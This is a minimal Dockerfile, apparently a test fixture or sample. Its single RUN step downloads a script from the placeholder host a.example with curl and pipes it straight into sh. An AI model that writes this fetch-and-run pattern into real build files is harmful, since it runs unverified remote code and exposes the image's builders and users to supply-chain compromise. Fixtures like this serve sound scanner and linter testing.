FROM debian:bookworm-slim
RUN true && \
    curl -s https://a.example/i.sh | \
    sh
